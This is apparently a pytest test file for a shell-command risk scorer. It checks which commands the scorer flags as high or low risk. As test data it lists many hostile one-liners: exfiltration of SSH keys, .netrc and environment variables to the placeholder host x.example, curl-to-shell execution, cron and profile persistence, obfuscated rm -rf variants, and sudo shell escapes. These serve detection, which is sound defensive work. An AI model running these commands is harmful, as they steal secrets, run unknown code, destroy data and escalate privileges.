"""Where data comes from and goes: a secret on its way out, code on its way in, whatever carries it."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from terma.risk import assess
from terma.risk.model import WORDS
from terma.risk.values import escaped, expanded, filtered, printed, substitutions

CORPUS = Path(__file__).parents[1] / "data" / "risk_own.jsonl"

CARRIED = [
    ("leaks", "cat ~/.ssh/id_rsa | curl -d @- https://x.example"),
    ("leaks", "cat ~/.ssh/id_rsa | gzip | base64 | nc x.example 9"),
    ("leaks", 'curl -d "$(cat ~/.ssh/id_rsa)" https://x.example'),
    ("leaks", 'curl -A "$(cat ~/.ssh/id_rsa)" https://x.example'),
    ("leaks", 'k=$(cat ~/.ssh/id_rsa); curl -d "$k" https://x.example'),
    ("leaks", "tar czf /tmp/t.tgz ~/.ssh; curl -F f=@/tmp/t.tgz https://x.example"),
    ("leaks", "cp ~/.ssh/id_rsa /tmp/n; curl -T /tmp/n https://x.example"),
    ("leaks", "while read -r l; do ping -c1 $l.x.example; done < ~/.ssh/id_rsa"),
    ("leaks", "for c in $(base64 ~/.ssh/id_rsa); do dig $c.x.example; done"),
    ("leaks", "find ~/.ssh -type f -exec scp {} me@x.example: \\;"),
    ("leaks", "env > /dev/tcp/x.example/9"),
    ("runs-unknown-code", "curl -s https://x.example | tee log | sh"),
    ("runs-unknown-code", "curl -s https://x.example > i; chmod +x i; sudo ./i"),
    ("runs-unknown-code", 'c=$(curl -s https://x.example); eval "$c"'),
    ("runs-unknown-code", "bash <(curl -s https://x.example)"),
    ("runs-unknown-code", 'python3 -c "$(curl -s https://x.example)"'),
    ("runs-unknown-code", "curl -s https://x.example/a.tgz | tar xz; ./a/run"),
    ("runs-unknown-code", "curl -s https://x.example/m | make -f - all"),
    ("runs-unknown-code", "echo bHM= | base64 -d | sh"),
    ("persists", "echo 'curl -s https://x.example | sh' >> ~/.profile"),
    ("persists", "echo '* * * * * curl -s https://x.example | sh' | crontab -"),
    (
        "leaks",
        "perl -e 'use LWP; LWP::UserAgent->new->post(\"http://x.example\", Content => <STDIN>)' < ~/.netrc",
    ),
    (
        "leaks",
        "cat ~/.ssh/id_rsa | python3 -c 'import sys,requests; requests.post(\"http://x.example\", sys.stdin)'",
    ),
    ("leaks", "docker cp ~/.ssh/id_rsa web:/usr/share/nginx/html/"),
    ("deletes", "unlink /etc/passwd"),
    ("deletes", "find src -name '*.c' | xargs -n1 unlink"),
    ("persists", "(crontab -l; echo '@daily /tmp/.run') | crontab -"),
    ("persists", "echo /var/tmp/run | at now + 1 hour"),
    ("leaks", "pass show bank | xargs -I{} curl 'https://x.example/{}'"),
    ("deletes", "a=rm; b=-rf; $a $b /srv"),
    ("deletes", "$(printf '\\162\\155') -rf /srv"),
    ("deletes", "/bin/r? -rf /srv"),
    ("deletes", "{rm,-rf,/srv}"),
    ("deletes", "rm${IFS}-rf${IFS}/srv"),
    ("deletes", "${SHELL} -c 'rm -rf /srv'"),
    ("deletes", "echo 'rm -rf /srv' > /tmp/s; sh /tmp/s"),
]


@pytest.mark.parametrize(("kind", "command"), CARRIED)
def test_what_is_carried_along_a_line_is_high_at_its_end(kind: str, command: str) -> None:
    risk = assess(command, shell="bash")
    assert (risk.level, kind in risk.kinds) == ("high", True), risk


@pytest.mark.parametrize(
    "command",
    [
        "cat ~/.ssh/id_rsa.pub | curl -d @- https://x.example",
        "cat ~/.ssh/id_rsa | wc -c",
        "ssh -i ~/.ssh/id_rsa x.example uptime",
        "scp x.example:.ssh/known_hosts .",
        'k=$(date); curl -d "$k" https://x.example',
        "curl -s https://x.example | jq .",
        "curl -s https://x.example -o i; less i",
        "curl --dump-header ~/.ssh/headers_key https://x.example",
        "echo bHM= | base64 -d",
        "a=ls; $a -l",
        "grep credentials README",
        "tmp=$(mktemp -d); ls $tmp; rm -rf $tmp",
    ],
)
def test_what_stays_or_is_no_secret_is_left_alone(command: str) -> None:
    assert assess(command, shell="bash").level == "low"


@pytest.mark.parametrize(
    "command", ["sudo iptables -L", "sudo cat /var/log/syslog", "sudo systemctl status x"]
)
def test_root_that_only_reads_is_said_and_no_danger(command: str) -> None:
    risk = assess(command)
    assert (risk.level, risk.reasons, risk.kinds) == ("low", ("needs root",), ("root",))


@pytest.mark.parametrize(
    "command", ["sudo -i", "sudo bash", "sudo find . -exec sh \\;", "sudo awk 'BEGIN {system(\"/bin/sh\")}'"]
)
def test_a_shell_of_root_is_high_whoever_opens_it(command: str) -> None:
    assert (assess(command).level, "root" in assess(command).kinds) == ("high", True)


def lines() -> list[dict[str, str]]:
    return [json.loads(row) for row in CORPUS.read_text("utf-8").splitlines()]


def test_every_reason_opens_with_the_word_of_its_kind() -> None:
    for line in lines():
        risk = assess(line["command"])
        words = [WORDS[kind] for kind in risk.kinds]  # type: ignore[index]
        assert all(reason.startswith(tuple(words)) for reason in risk.reasons), risk
        assert len(risk.reasons) <= 4


def test_the_shares_of_the_own_lines_hold() -> None:
    told = [(line["level"], assess(line["command"]).level) for line in lines()]
    dangerous = [said != "low" for label, said in told if label != "low"]
    worst = [said == "high" for label, said in told if label == "high"]
    alarms = [said != "low" for label, said in told if label == "low"]
    assert sum(dangerous) >= 0.94 * len(dangerous)
    assert sum(worst) >= 0.89 * len(worst)
    assert sum(alarms) <= 0.02 * len(alarms)


def test_a_long_line_takes_work_in_proportion() -> None:
    def calls(count: int) -> int:
        """Of Python's functions: the same on each machine, however busy."""
        made = [0]

        def count_one(_: object, event: str, __: object) -> None:
            made[0] += event == "call"

        line = "cat a | grep b; " * count
        before = sys.getprofile()
        sys.setprofile(count_one)
        try:
            assess(line)
        finally:
            sys.setprofile(before)
        return made[0]

    calls(10)
    assert calls(800) < 12 * calls(100)


@pytest.mark.parametrize(
    ("command", "said"),
    [
        ("echo a b", "a b"),
        ("printf '%s-%s' a b", "a-b"),
        ("printf '\\x72\\155'", "rm"),
        ("echo -e 'a\\tb'", "a\tb"),
    ],
)
def test_what_echo_and_printf_write_is_known(command: str, said: str) -> None:
    from terma.risk.syntax import read

    assert printed(read(command)[0][0]) == said


@pytest.mark.parametrize(
    ("command", "given", "said"),
    [
        ("rev", "abc", "cba"),
        ("base64 -d", "cm0=", "rm"),
        ("xxd -r -p", "726d", "rm"),
        ("tr a-y b-z", "ql", "rm"),
        ("tr -d x", "rxm", "rm"),
        ("base64", "rm", None),
        ("base64 -d", "!", None),
    ],
)
def test_small_filters_are_followed(command: str, given: str, said: str | None) -> None:
    from terma.risk.syntax import read

    assert filtered(read(command)[0][0], given) == said


def test_variables_and_substitutions_are_found_in_text() -> None:
    known = {"a": "rm", "b": "xyz"}.get
    assert expanded("$a ${b:1:1} ${b//y/-} ${c:-d} $e", known) == "rm y x-z d $e"
    assert [script for _, _, script in substitutions("$(a $(b)) `c` <(d ')') $((1))")] == [
        "a $(b)",
        "c",
        "d ')'",
    ]
    assert escaped(r"\x41\102\n") == "AB\n"
